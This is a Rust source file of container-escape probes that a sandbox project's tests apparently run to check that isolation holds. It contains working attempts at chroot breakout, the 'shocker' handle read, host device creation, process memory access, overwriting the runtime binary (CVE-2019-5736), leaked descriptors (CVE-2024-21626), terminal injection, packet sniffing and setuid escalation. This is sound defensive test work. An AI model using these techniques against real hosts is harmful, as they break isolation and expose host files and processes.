//! Ways out of a container, as programs: each tries one, for real, on what the test made for it.
//! They run inside (see `probe`); what they mean is in `escape`.

use std::ffi::{CString, OsString};
use std::fs;
use std::io::{Error, Read, Result, Write};
use std::os::fd::FromRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::path::Path;

/// Tries an attack; prints what it got, and exits with 0 when it got out, else with 1.
pub fn run(args: &[OsString]) -> ! {
    let words: Vec<&str> = args.iter().map(|word| word.to_str().unwrap()).collect();
    let result = attack(words[0], &words[1..]);
    match result {
        Ok(loot) => println!("out: {loot}"),
        Err(error) => {
            println!("held: {error}");
            std::process::exit(1);
        }
    }
    std::process::exit(0)
}

fn attack(name: &str, args: &[&str]) -> Result<String> {
    match (name, args) {
        ("chroot", [secret]) => chroot(secret),
        ("handle", [handle, through]) => by_handle(handle, through),
        ("mknod", [path]) => device(path),
        ("open", [path]) => fs::File::open(path).map(|_| "opened".into()),
        // Nothing is ever written: that it could be is enough.
        ("open-to-write", [path]) => {
            fs::OpenOptions::new().write(true).open(path).map(|_| "opened".into())
        }
        ("read", [path]) => fs::read_to_string(path),
        ("memory", [pid]) => memory(pid),
        ("launcher", []) => launcher(),
        ("descriptors", [name]) => descriptors(name),
        ("working-directory", [secret]) => climb(secret),
        ("mount", [fstype, data, file]) => mount(fstype, data, file),
        ("key", [name]) => key(name),
        ("add-key", []) => add_key(),
        ("bpf", []) => {
            // The least there is: a map with room for one number.
            let map = [2u32, 4, 4, 1];
            call(libc::SYS_bpf, [0, map.as_ptr() as usize, 16, 0]).map(|_| "a map".into())
        }
        ("userfaultfd", []) => {
            call(libc::SYS_userfaultfd, [1, 0, 0, 0]).map(|_| "a descriptor".into())
        }
        ("io_uring", []) => {
            let mut params = [0u64; 32];
            call(libc::SYS_io_uring_setup, [1, params.as_mut_ptr() as usize, 0, 0])
                .map(|_| "a ring".into())
        }
        ("perf", []) => perf(),
        ("namespace", []) => namespace(),
        ("terminal", []) => terminal(),
        ("sniff", [mark]) => sniff(mark),
        ("abstract-socket", [name]) => abstract_socket(name),
        ("privileges", [program]) => privileges(program),
        _ => panic!("no attack {name} {args:?}"),
    }
}

fn call(number: i64, args: [usize; 4]) -> Result<i64> {
    // SAFETY: the callers give pointers to memory that they hold, or none.
    let result = unsafe { libc::syscall(number, args[0], args[1], args[2], args[3]) };
    if result < 0 { Err(Error::last_os_error()) } else { Ok(result) }
}

fn check(result: i32) -> Result<()> {
    if result < 0 { Err(Error::last_os_error()) } else { Ok(()) }
}

/// The classic: a directory outside of the root is kept as working directory.
fn chroot(secret: &str) -> Result<String> {
    fs::create_dir("/tmp/jail")?;
    std::os::unix::fs::chroot("/tmp/jail")?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    std::os::unix::fs::chroot(".")?;
    fs::read_to_string(secret)
}

/// "shocker": a file by its number, through any file of the same file system.
fn by_handle(handle: &str, through: &str) -> Result<String> {
    let mut bytes: Vec<u8> = (0..handle.len())
        .step_by(2)
        .map(|at| u8::from_str_radix(&handle[at..at + 2], 16).unwrap())
        .collect();
    let through = fs::File::open(through)?;
    let mount = std::os::fd::AsRawFd::as_raw_fd(&through) as usize;
    let fd = call(libc::SYS_open_by_handle_at, [mount, bytes.as_mut_ptr() as usize, 0, 0])?;
    let mut text = String::new();
    // SAFETY: a new descriptor, owned by nobody else.
    unsafe { fs::File::from_raw_fd(fd as i32) }.read_to_string(&mut text)?;
    Ok(text)
}

/// A node of a disk of the host: a loop device with nothing in it.
fn device(path: &str) -> Result<String> {
    let name = CString::new(path).unwrap();
    // SAFETY: a NUL-terminated path.
    check(unsafe { libc::mknod(name.as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(7, 0)) })?;
    fs::File::open(path)?;
    Ok("a disk".into())
}

/// The memory of a process outside, in three ways.
fn memory(pid: &str) -> Result<String> {
    let number: i32 = pid.parse().unwrap();
    // SAFETY: numbers only.
    let seized = unsafe { libc::ptrace(libc::PTRACE_SEIZE, number, 0, 0) };
    if seized == 0 {
        return Ok("traced".into());
    }
    let mut byte = [0u8];
    let local = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
    let remote = libc::iovec { iov_base: 0x1000 as *mut _, iov_len: 1 };
    // SAFETY: one byte of ours; the other address is the other process's to refuse.
    let read = unsafe { libc::process_vm_readv(number, &local, 1, &remote, 1, 0) };
    if read >= 0 || Error::last_os_error().raw_os_error() == Some(libc::EFAULT) {
        return Ok("read".into());
    }
    fs::File::open(format!("/proc/{pid}/mem")).map(|_| "opened".into())
}

/// mini's own program file, from the process that launched this one (CVE-2019-5736). That it is
/// busy is the last thing between the attacker and it.
fn launcher() -> Result<String> {
    // SAFETY: no memory involved.
    let parent = unsafe { libc::getppid() };
    let paths = [format!("/proc/{parent}/exe"), "/proc/1/exe".into()];
    let path = if parent == 0 { &paths[1] } else { &paths[0] };
    if parent == 0 && fs::read_link(path)? == fs::read_link("/proc/self/exe")? {
        return Err(Error::other("only this program itself"));
    }
    match fs::OpenOptions::new().write(true).open(path) {
        Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => Ok("only busy".into()),
        other => other.map(|_| "opened".into()),
    }
}

/// A directory of the host that was open when mini was started (CVE-2024-21626).
fn descriptors(name: &str) -> Result<String> {
    (3..64)
        .find_map(|fd| fs::read_to_string(format!("/proc/self/fd/{fd}/{name}")).ok())
        .ok_or(Error::other("no descriptor leads there"))
}

fn climb(secret: &str) -> Result<String> {
    fs::read_to_string(format!("{}{secret}", "../".repeat(64)))
        .or_else(|_| fs::read_to_string(format!("/proc/self/cwd/{secret}")))
}

/// A file system of the kernel's own, and in it a file that root outside reads.
fn mount(fstype: &str, data: &str, file: &str) -> Result<String> {
    let words = ["x", "/mnt", fstype, data].map(|word| CString::new(word).unwrap());
    let [source, target, fstype, data] = words;
    // SAFETY: NUL-terminated words.
    check(unsafe {
        libc::mount(source.as_ptr(), target.as_ptr(), fstype.as_ptr(), 0, data.as_ptr().cast())
    })?;
    let opened = fs::OpenOptions::new().write(true).open(Path::new("/mnt").join(file));
    opened.map(|_| "opened".into())
}

/// A key from the session keyring of mini's caller.
fn key(name: &str) -> Result<String> {
    let name = CString::new(name).unwrap();
    let user = c"user";
    call(libc::SYS_request_key, [user.as_ptr() as usize, name.as_ptr() as usize, 0, 0])
        .map(|_| "a key".into())
}

fn add_key() -> Result<String> {
    let (user, name) = (c"user", c"mini-test");
    const SESSION: isize = -3;
    // SAFETY: NUL-terminated words and one byte.
    let key = unsafe {
        libc::syscall(libc::SYS_add_key, user.as_ptr(), name.as_ptr(), c"x".as_ptr(), 1, SESSION)
    };
    if key < 0 { Err(Error::last_os_error()) } else { Ok("a key".into()) }
}

fn perf() -> Result<String> {
    // A software clock of this process, user space only: the least anybody can ask for.
    let mut attributes = [0u64; 16];
    attributes[0] = 1 | 128 << 32;
    attributes[5] = 1 << 5 | 1 << 6;
    // SAFETY: one structure of 128 bytes, as its size field says.
    let fd = unsafe { libc::syscall(libc::SYS_perf_event_open, attributes.as_ptr(), 0, -1, -1, 0) };
    if fd < 0 { Err(Error::last_os_error()) } else { Ok("an event".into()) }
}

/// All capabilities, in a user namespace of one's own, and a mount to prove it.
fn namespace() -> Result<String> {
    // SAFETY: numbers only.
    check(unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) })?;
    mount("tmpfs", "", "x").or_else(|error| match error.kind() {
        std::io::ErrorKind::NotFound => Ok("mounted".into()),
        _ => Err(error),
    })
}

/// A letter typed into the terminal, for the shell outside to read; the number also in the form
/// whose upper half the kernel cuts off.
fn terminal() -> Result<String> {
    let letter = b'!';
    let address = (&raw const letter) as usize;
    let plain = call(libc::SYS_ioctl, [0, libc::TIOCSTI as usize, address, 0]);
    plain.or_else(|_| call(libc::SYS_ioctl, [0, 1 << 32 | libc::TIOCSTI as usize, address, 0]))?;
    Ok("typed".into())
}

/// What goes over the host's network: listens, says so, and looks when the test has sent its mark.
fn sniff(mark: &str) -> Result<String> {
    const ALL: u16 = 3;
    // SAFETY: numbers only.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, i32::from(ALL.to_be())) };
    check(fd)?;
    println!("ready");
    std::io::stdin().read_exact(&mut [0])?;
    let mut packet = [0u8; 4096];
    loop {
        // SAFETY: the kernel writes into the buffer.
        let length =
            unsafe { libc::recv(fd, packet.as_mut_ptr().cast(), packet.len(), libc::MSG_DONTWAIT) };
        if length < 0 {
            return Err(Error::last_os_error());
        }
        let seen = &packet[..length as usize];
        if seen.windows(mark.len()).any(|window| window == mark.as_bytes()) {
            return Ok("heard".into());
        }
    }
}

fn abstract_socket(name: &str) -> Result<String> {
    let address = SocketAddr::from_abstract_name(name)?;
    let mut stream = UnixStream::connect_addr(&address)?;
    stream.write_all(b"x")?;
    Ok("connected".into())
}

/// A program that is set-user-id root, run by somebody else.
fn privileges(program: &str) -> Result<String> {
    let output = std::process::Command::new(program).arg("-u").output()?;
    match String::from_utf8_lossy(&output.stdout).trim() {
        "0" => Ok("root".into()),
        other => Err(Error::other(format!("still {other}"))),
    }
}
